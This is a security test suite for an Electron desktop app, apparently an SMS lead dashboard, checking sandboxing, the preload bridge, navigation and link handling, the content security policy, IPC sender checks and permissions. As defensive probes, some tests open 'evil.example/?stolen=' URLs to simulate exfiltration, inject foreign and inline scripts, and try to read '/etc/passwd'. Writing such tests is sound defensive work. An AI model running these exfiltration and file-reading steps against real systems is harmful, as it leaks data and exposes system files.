import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, inject, test } from 'vitest'
import { packedProgram } from '../package.ts'
import { type App, createProfile, type Profile } from './app.ts'
import { output } from './desk.ts'
import { root } from './runtime.ts'
import { openConsole } from './steps.ts'

const server = inject('server')
let profile: Profile
let app: App

beforeAll(async () => {
  profile = await createProfile(inject('desk'))
  app = await profile.launch()
  await openConsole(app.page, server)
  // What leaves the app is noted instead of starting a browser.
  await app.electron.evaluate(({ dialog, shell }) => {
    const left: string[] = []
    const questions: string[] = []
    Object.assign(globalThis, { left, questions, answer: Promise.resolve(0) })
    shell.openExternal = async (url) => void left.push(url)
    // Native dialogs cannot be driven; what a person would click can be given.
    dialog.showMessageBox = async (...given: unknown[]) => {
      questions.push((given.at(-1) as Electron.MessageBoxOptions).message)
      const response = await (globalThis as unknown as { answer: Promise<number> }).answer
      return { response, checkboxChecked: false }
    }
  })
})
afterAll(async () => {
  await app.close()
  await profile.remove()
})

const leftForBrowser = () =>
  app.electron.evaluate(() => (globalThis as unknown as { left: string[] }).left.splice(0))

const questions = () =>
  app.electron.evaluate(() => (globalThis as unknown as { questions: string[] }).questions.splice(0))

test('the page has nothing of Node', async () => {
  const seen = await app.page.evaluate(() =>
    ['require', 'process', 'module', 'Buffer', 'global', '__dirname', 'electron', 'ipcRenderer'].filter(
      (name) => name in globalThis,
    ),
  )
  expect(seen).toEqual([])
  const settings = await app.electron.evaluate(({ BrowserWindow }) => {
    const contents = BrowserWindow.getAllWindows()[0]?.webContents as unknown as {
      getLastWebPreferences(): Record<string, unknown>
    }
    return contents.getLastWebPreferences()
  })
  expect(settings).toMatchObject({
    sandbox: true,
    contextIsolation: true,
    nodeIntegration: false,
    webviewTag: false,
    webSecurity: true,
    allowRunningInsecureContent: false,
    experimentalFeatures: false,
    nodeIntegrationInSubFrames: false,
    enableBlinkFeatures: '',
  })
})

test('the bridge is a frozen list of functions', async () => {
  const result = await app.page.evaluate(() => {
    const kinds = new Set(Object.values(window.desktop).map((value) => typeof value))
    try {
      Object.assign(window.desktop, { start: () => 'forged' })
    } catch {}
    return { kinds: [...kinds], forged: String(window.desktop.start).includes('forged') }
  })
  expect(result).toEqual({ kinds: ['function'], forged: false })
})

test('the page cannot navigate to another origin', async () => {
  const before = app.page.url()
  for (const url of ['https://example.com/', `${server}/`, 'file:///etc/passwd', 'data:text/html,<p>gone']) {
    await app.page.evaluate((to) => location.assign(to), url)
  }
  await app.page.evaluate(() => new Promise((resolve) => setTimeout(resolve)))
  expect(app.page.url()).toBe(before)
  expect(await app.page.evaluate(() => document.querySelector('h1')?.textContent)).toBe(
    'SMS Lead Management Dashboard',
  )
  expect(await leftForBrowser()).toEqual(['https://example.com/'])
  expect(await questions()).toEqual(['Open example.com in your browser?'])
})

test('links go to the system browser, and only encrypted ones', async () => {
  const windows = await app.page.evaluate((insecure) => {
    const opened = [
      'https://example.com/help',
      insecure,
      'file:///etc/passwd',
      'javascript:alert(1)',
      'https://a:b@example.com/',
    ]
    return opened.map((url) => window.open(url) === null)
  }, server)
  expect(windows).toEqual([true, true, true, true, true])
  expect(await leftForBrowser()).toEqual(['https://example.com/help'])
  expect(await questions()).toEqual(['Open example.com in your browser?'])
  expect(app.electron.windows()).toHaveLength(1)
})

test('a script of the page cannot carry anything out through the browser without a person’s yes', async () => {
  await app.electron.evaluate(() => {
    const answer = new Promise((resolve) => Object.assign(globalThis, { cancel: () => resolve(1) }))
    Object.assign(globalThis, { answer })
  })
  await app.page.evaluate(() => {
    for (let n = 0; n < 50; n++) window.open(`https://evil.example/?stolen=${n}`)
  })
  await app.electron.evaluate(() => (globalThis as unknown as { cancel(): void }).cancel())
  expect(await leftForBrowser()).toEqual([])
  // One at a time, never fifty windows with questions.
  expect(await questions()).toEqual(['Open evil.example in your browser?'])
})

test('the policy blocks inline script, foreign script, frames and foreign requests', async () => {
  const blocked = await app.page.evaluate(async (foreign) => {
    const violations: string[] = []
    document.addEventListener('securitypolicyviolation', (event) => violations.push(event.effectiveDirective))
    const inline = document.createElement('script')
    inline.textContent = 'window.hacked = true'
    document.head.append(inline)
    const button = document.createElement('button')
    button.setAttribute('onclick', 'window.hacked = true')
    button.click()
    const script = document.createElement('script')
    script.src = `${foreign}/evil.js`
    document.head.append(script)
    const frame = document.createElement('iframe')
    frame.src = foreign
    document.body.append(frame)
    // In a task of its own: what the test's own inspector starts may evaluate.
    const evaluated = await new Promise((resolve) =>
      setTimeout(() => {
        try {
          resolve(new Function('return 1')())
        } catch {
          resolve('refused')
        }
      }),
    )
    const fetched = await fetch(`${foreign}/healthz`).then(
      () => 'let through',
      () => 'refused',
    )
    await new Promise((resolve) => setTimeout(resolve, 200))
    frame.remove()
    return { hacked: 'hacked' in window, evaluated, fetched, violations: [...new Set(violations)].sort() }
  }, server)
  expect(blocked).toEqual({
    hacked: false,
    evaluated: 'refused',
    fetched: 'refused',
    violations: ['connect-src', 'frame-src', 'script-src', 'script-src-attr', 'script-src-elem'],
  })
})

test('a page of others with our bridge is refused by every call', async () => {
  const foreign = createServer((_request, response) => {
    response.setHeader('content-type', 'text/html')
    response.end('<!doctype html><title>foreign</title>')
  })
  await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve))
  const url = `http://127.0.0.1:${(foreign.address() as AddressInfo).port}/`
  const answers = await app.electron.evaluate(async ({ app: electron, BrowserWindow }, address) => {
    const stranger = new BrowserWindow({
      show: false,
      webPreferences: {
        preload: `${electron.getAppPath()}/preload/index.cjs`,
        sandbox: true,
        partition: 'foreign',
      },
    })
    await stranger.loadURL(address)
    const answers = await stranger.webContents.executeJavaScript(`Promise.all([
      desktop.start(), desktop.checkServer('localhost'), desktop.forgetSession(), desktop.chooseFile(), desktop.setBadge(7),
    ].map((call) => call.then(() => 'answered', (error) => error.message)))`)
    stranger.destroy()
    return answers as string[]
  }, url)
  expect(answers).toHaveLength(5)
  for (const answer of answers) expect(answer).toMatch(/was refused: not a page of ours/)
  foreign.closeAllConnections()
  await new Promise((resolve) => foreign.close(resolve))
})

test('a frame of others inside our page is refused too', async () => {
  // Past the policy: the frame is put there by the test, as a hole in the policy would.
  const trusted = await app.electron.evaluate(async ({ app: electron, BrowserWindow }) => {
    const window = new BrowserWindow({
      show: false,
      webPreferences: {
        preload: `${electron.getAppPath()}/preload/index.cjs`,
        sandbox: true,
        nodeIntegrationInSubFrames: true,
        partition: 'framed',
      },
    })
    await window.loadURL('data:text/html,<iframe src="data:text/html,<p>inner"></iframe>')
    const inner = window.webContents.mainFrame.frames[0]
    const answer = (await inner?.executeJavaScript(
      "desktop.start().then(() => 'answered', (error) => error.message)",
    )) as string
    window.destroy()
    return answer
  })
  expect(trusted).toMatch(/was refused: not a page of ours/)
})

test('arguments that are not as declared are refused', async () => {
  const answers = await app.page.evaluate(async () => {
    const calls = window.desktop as unknown as Record<string, (...args: unknown[]) => Promise<unknown>>
    const tries = [
      calls.setBadge?.('7'),
      calls.sendFile?.('/etc/passwd'),
      calls.notify?.({}),
      calls.checkServer?.({}),
    ]
    return Promise.all(
      tries.map((call) =>
        call?.then(
          () => 'answered',
          (error: Error) => error.message,
        ),
      ),
    )
  })
  for (const answer of answers) expect(answer).toMatch(/was refused/)
})

test('a script cannot make up a dropped file', async () => {
  const token = await app.page.evaluate(() => {
    const data = new DataTransfer()
    data.items.add(new File(['{}'], 'made-up.json'))
    window.dispatchEvent(new DragEvent('drop', { dataTransfer: data, bubbles: true, cancelable: true }))
    return window.desktop.takeDropped()
  })
  expect(token).toBeNull()
})

test('permissions are denied', async () => {
  const states = await app.page.evaluate(async () => {
    const names = ['geolocation', 'notifications', 'camera', 'microphone', 'midi']
    return Promise.all(
      names.map((name) =>
        navigator.permissions.query({ name: name as PermissionName }).then((found) => found.state),
      ),
    )
  })
  expect(states).toEqual(['denied', 'denied', 'denied', 'denied', 'denied'])
  const media = await app.page.evaluate(() =>
    navigator.mediaDevices.getUserMedia({ audio: true }).then(
      () => 'given',
      (error) => error.name,
    ),
  )
  expect(media).not.toBe('given')
})

test('the program cannot be used as Node, and only runs its own archive', async () => {
  const reader = join(root, 'node_modules/.bin/electron-fuses')
  const wire = await output(reader, ['read', '--app', packedProgram()], { PATH: process.env.PATH ?? '' })
  for (const fuse of [
    'RunAsNode is Disabled',
    'EnableNodeOptionsEnvironmentVariable is Disabled',
    'EnableCookieEncryption is Enabled',
    'EnableEmbeddedAsarIntegrityValidation is Enabled',
    'OnlyLoadAppFromAsar is Enabled',
  ]) {
    expect(wire).toContain(fuse)
  }
})

test('nothing went wrong in the console on the way', () => {
  const expected =
    /Content Security Policy|Failed to load resource|ERR_BLOCKED|Not allowed to load local resource|Refused to|violates|navigate/
  expect(app.complaints.filter((line) => !expected.test(line))).toEqual([])
})
